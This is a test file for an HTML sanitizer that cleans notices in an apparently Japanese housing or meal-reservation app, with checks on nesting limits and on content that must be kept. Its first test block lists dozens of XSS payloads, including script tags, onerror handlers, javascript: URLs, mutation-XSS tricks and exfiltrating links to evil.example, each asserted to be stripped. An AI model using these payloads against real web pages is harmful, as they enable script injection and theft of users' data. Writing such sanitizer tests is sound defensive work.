// HTML of notices: what stays, what goes, and that no script or style is ever left (L013, AM138).
import fc from 'fast-check';
import { fromHtml } from 'hast-util-from-html';
import type { Element, Nodes } from 'hast';
import { describe, expect, test } from 'vitest';
import { requirements } from '../../../../../tests/support/requirements.ts';
import { safeHtml } from './safe-html.ts';

const elementsOf = (node: Nodes): Element[] => [
  ...(node.type === 'element' ? [node] : []),
  ...('children' in node ? node.children.flatMap(elementsOf) : []),
];

/** What a browser would find again in the text that is kept. */
const found = (html: string) => elementsOf(fromHtml(html, { fragment: true }));

const known =
  /^(h[2-6]|p|div|section|blockquote|pre|hr|br|[uod]l|li|d[td]|figure|figcaption|a|img|wbr|strong|b|em|i|u|s|del|ins|mark|small|su[bp]|span|code|time|abbr|ruby|r[tp]|table|caption|t(head|body|foot)|t[rhd])$/;
const knownAttributes =
  /^(lang|dir|title|href|src|alt|width|height|start|reversed|colSpan|rowSpan|scope|dateTime)$/;

const addresses = {
  href: /^(https?:\/\/|mailto:|tel:|\/(?![/\\]))/,
  src: /^data:image\/(png|jpeg|gif|webp);base64,/,
};

/** Elements, attributes and addresses that must never be there. */
const harmIn = (html: string): string[] =>
  found(html).flatMap(({ tagName, properties }) => [
    ...(known.test(tagName) ? [] : [tagName]),
    ...Object.keys(properties).filter((name) => !knownAttributes.test(name)),
    ...(['href', 'src'] as const).flatMap((name) => {
      const address = properties[name];
      return address === undefined || addresses[name].test(String(address))
        ? []
        : [String(address)];
    }),
  ]);

describe('nothing that runs is kept', () => {
  requirements('L013');
  test.each([
    ['script', '<script>alert(1)</script>'],
    ['script in capitals and broken', '<ScRiPt\n>alert(1)</sCrIpT x><script/src=//evil.example>'],
    ['handlers', '<p onclick="alert(1)" ONLOAD=alert(1) onmouseover\n=\talert(1)>x</p>'],
    ['an image that fails', '<img src=x onerror=alert(1)>'],
    [
      'svg with a script',
      '<svg onload=alert(1)><script>alert(1)</script><a xlink:href=//e>x</a></svg>',
    ],
    ['svg as an image', '<img src="data:image/svg+xml;base64,PHN2Zy8+">'],
    [
      'math',
      '<math><maction actiontype=statusline xlink:href="javascript:alert(1)">x</maction></math>',
    ],
    ['style element', '<style>@import "//evil.example";p{background:url(//evil.example)}</style>'],
    ['style attribute', '<p style="background:url(javascript:alert(1))">x</p>'],
    ['iframe', '<iframe src="javascript:alert(1)" srcdoc="<script>alert(1)</script>"></iframe>'],
    ['object and embed', '<object data="x.swf"><embed src="x.swf"></object>'],
    [
      'form',
      '<form action="//evil.example"><input name=p><button formaction="javascript:1">x</button></form>',
    ],
    ['meta refresh', '<meta http-equiv="refresh" content="0;url=//evil.example">'],
    ['base', '<base href="//evil.example/">'],
    ['link', '<link rel=stylesheet href="//evil.example/x.css">'],
    ['javascript:', '<a href="javascript:alert(1)">x</a>'],
    [
      'javascript: hidden',
      '<a href=" java\nscript&#58;alert(1)">x</a><a href="&#1;javascript:alert(1)">x</a>',
    ],
    [
      'vbscript: and data:',
      '<a href="vbscript:x">x</a><a href="data:text/html,<script>1</script>">x</a>',
    ],
    [
      'an address without its scheme',
      '<a href="//evil.example">x</a><a href="/\\evil.example">x</a><a href="/&#9;/evil.example">x</a><a href="/..//evil.example">x</a>',
    ],
    [
      'a name that hides one of the page',
      '<a id="content" name="location">x</a><form id=document></form>',
    ],
    [
      'another namespace that turns into this one',
      '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    ],
    ['a title that ends', '<title><img title="</title><img src=x onerror=alert(1)>"></title>'],
    ['noscript', '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'],
    ['template', '<template><img src=x onerror=alert(1)></template>'],
    ['a comment that ends', '<!--><img src=x onerror=alert(1)>--><p>x</p>'],
    ['a picture of another origin', '<img src="https://evil.example/who-reads.gif" alt="">'],
    [
      'a set of pictures',
      '<img srcset="//evil.example/x.png 1x" src="data:image/png;base64,AAAA">',
    ],
    [
      'video',
      '<video src=x onerror=alert(1) poster="//evil.example"><source onerror=alert(1)></video>',
    ],
    ['custom elements', '<x-frame onload=alert(1)><slot name=x></slot></x-frame>'],
    ['details', '<details open ontoggle=alert(1)><summary>x</summary></details>'],
  ])('%s', (_name, source) => {
    const { html, removed } = safeHtml(`<p>前</p>${source}`);
    expect(harmIn(html)).toEqual([]);
    expect(html).not.toMatch(/alert\(1\)"|evil\.example\b(?!<)/);
    expect(removed.size, 'the operator is told').toBeGreaterThan(0);
  });

  const pieces = fc.constantFrom(
    '<',
    '>',
    '"',
    "'",
    '/',
    '=',
    ' ',
    '\n',
    '<!--',
    '-->',
    '<p>',
    '</p>',
    '<svg>',
    '</svg>',
    '<math>',
    '<mtext>',
    '<style>',
    '</style>',
    '<script>',
    '</script>',
    '<img src=x onerror=a>',
    '<a href=',
    'javascript:a',
    '<table>',
    '<td>',
    '<title>',
    '</title>',
    '<textarea>',
    '&lt;',
    '<iframe srcdoc=',
    '<form>',
    '<noscript>',
    '<template>',
    '<select>',
    '<xmp>',
    'x',
    '漢字',
  );
  test('links that a table tears apart are the same when they are read again', () => {
    const torn = "<a href=<td>'<table><a href=<td>x";
    const { html } = safeHtml(torn);
    expect(safeHtml(html).html).toBe(html);
    const several = '--><a href=<textarea><mtext>--><td><table><a href=</script><mtext>xx';
    expect(safeHtml(safeHtml(several).html).html).toBe(safeHtml(several).html);
  });

  test('whatever pieces are put together, in whatever order', () => {
    fc.assert(
      fc.property(fc.array(pieces, { maxLength: 24 }), (parts) => {
        const { html } = safeHtml(parts.join(''));
        expect(harmIn(html)).toEqual([]);
        expect(safeHtml(html).html, 'made safe twice is made safe once').toBe(html);
      }),
      { numRuns: 500 },
    );
  });
});

describe('elements that are left open are not multiplied', () => {
  const opened = (count: number, title: (index: number) => string) =>
    Array.from({ length: count }, (_, index) => `<b title="${title(index)}">`).join('');

  test.each([
    ['by their attributes', opened(100, String)],
    ['by attributes with a sign of the end', opened(100, (index) => `>${index}`)],
  ])('%s', (_name, bold) => {
    const { html } = safeHtml(`<p>${bold}${'<p>x'.repeat(2000)}`);
    expect(html.length).toBeLessThan(100_000);
    expect(found(html).filter(({ tagName }) => tagName === 'p').length).toBe(2001);
  });

  test('of all names at once', () => {
    const names = 'b big code em font i nobr s small strike strong tt u'.split(' ');
    const all = names.map((name) => `<${name}>`.repeat(3)).join('');
    expect(() => safeHtml(`<p>${all}${'<p>x'.repeat(20_000)}`)).toThrow(RangeError);
  });

  test('a long text with bold and coloured words is none of them', () => {
    const words = '<p lang="ja"><b lang="en">A</b> <font color=red>x</font> <strong>b</strong></p>';
    const { html } = safeHtml(words.repeat(150));
    const kept = '<p lang="ja"><b lang="en">A</b> x <strong>b</strong></p>'.repeat(150);
    expect(html === kept).toBe(true);
    const long = '<tr><td><strong>1</strong></td><td><em>2</em></td></tr>'.repeat(1500);
    expect(safeHtml(`<table><tbody>${long}</tbody></table>`).html.includes(long)).toBe(true);
  });
});

describe('deep or wide HTML is refused before it costs anything', () => {
  const nested = (level: string, leaf = 'x', levels = 1000) => {
    const open = level.repeat(levels);
    return open + leaf.repeat((67_000 - open.length) / leaf.length);
  };

  test.each([
    ['blocks with paragraphs', nested('<div>', '<p>x')],
    ['lists', nested('<ul>', '<li>x')],
    ['sections with bold words', nested('<section>', '<b><p>x')],
    ['blocks alone', '<div>'.repeat(13_400)],
    ['tables', nested('<table><tr><td>')],
    ['paragraphs without nesting', '<p>x'.repeat(16_750)],
    ['what a browser without scripts shows', `<noscript>${nested('<div>', '<p>x')}`],
    ['as much of it without nesting', `<noscript>${'<p>x'.repeat(16_750)}`],
  ])('%s', (_name, source) => {
    requirements('L013 AM138');
    const from = process.cpuUsage();
    expect(() => safeHtml(source)).toThrow(RangeError);
    const { user, system } = process.cpuUsage(from);
    expect((user + system) / 1000).toBeLessThan(200);
  });

  test('lists and quotes of fifty levels stay', () => {
    requirements('AM138');
    const deep = '<blockquote>'.repeat(50) + '<p>x</p>' + '</blockquote>'.repeat(50);
    expect(safeHtml(deep).html).toBe(deep);
  });
});

describe('what a notice needs stays', () => {
  test('text, lists, tables, furigana, links out of the app and into it', () => {
    const source =
      '<p>漢字<ruby>秋刀魚<rp>（</rp><rt>さんま</rt><rp>）</rp></ruby><br><strong>大切</strong></p>' +
      '<ol start="3"><li>一</li></ol>' +
      '<table><thead><tr><th scope="col" colspan="2">時間</th></tr></thead><tbody><tr><td>6:30</td><td>9:00</td></tr></tbody></table>' +
      '<p lang="en"><a href="https://example.jp/a?b=1#c">out</a> <a href="/meal-reservation?date=2026-06-10">in</a> ' +
      '<a href="mailto:house@example.jp">mail</a> <a href="tel:03-1234-5678">call</a></p>';
    expect(safeHtml(source)).toEqual({ html: source, hasContent: true, removed: new Map() });
  });

  test('a whole document of a word processor becomes its content', () => {
    const { html, removed } = safeHtml(
      '<!doctype html><html lang=ja><head><meta charset=utf-8><title>お知らせ</title><style>p{color:red}</style></head>' +
        '<body class=Word><h1 style="color:red">清掃</h1><p class=MsoNormal><font color=red>日曜日</font>に<o:p>行います</o:p></p></body></html>',
    );
    expect(html).toBe('<h2>清掃</h2><p>日曜日に行います</p>');
    expect([...removed.keys()].toSorted()).toEqual([
      '<font>',
      '<o:p>',
      '<style>',
      'color',
      'style',
    ]);
  });

  test('pictures come along inside, with words for whoever does not see them', () => {
    const image = 'data:image/png;base64,iVBORw0KGgo=';
    expect(safeHtml(`<img src="${image}" width=200 height=99999 onload=x>`).html).toBe(
      `<img src="${image}" alt="" width="200">`,
    );
    expect(safeHtml('<p><img src="map.png" alt="館内図"></p>').html).toBe('<p>館内図</p>');
  });

  test('headings follow the title without a gap, and none is empty', () => {
    expect(safeHtml('<h1>a</h1><h4>b</h4><h6>c</h6><h2>d</h2><h3> </h3><h6>e</h6>').html).toBe(
      '<h2>a</h2><h3>b</h3><h4>c</h4><h2>d</h2><h3>e</h3>',
    );
  });

  test('links without words go, parts without their whole lose their tags', () => {
    expect(safeHtml('<a href="https://example.jp"> </a><li>一</li><td>二</td>').html).toBe('一二');
  });

  test.each(['', '  \n ', '<script>1</script>', '<p> <br></p>', '<img src="x.png">', '<!-- x -->'])(
    '%j is no content',
    (source) => {
      expect(safeHtml(source).hasContent).toBe(false);
    },
  );

  test('what was left out is counted by name', () => {
    const { removed } = safeHtml(
      '<p onclick=a>x</p><p onclick=b>y</p><script>1</script><a href="javascript:1">z</a>',
    );
    expect(Object.fromEntries(removed)).toEqual({ onclick: 2, '<script>': 1, href: 1 });
  });
});
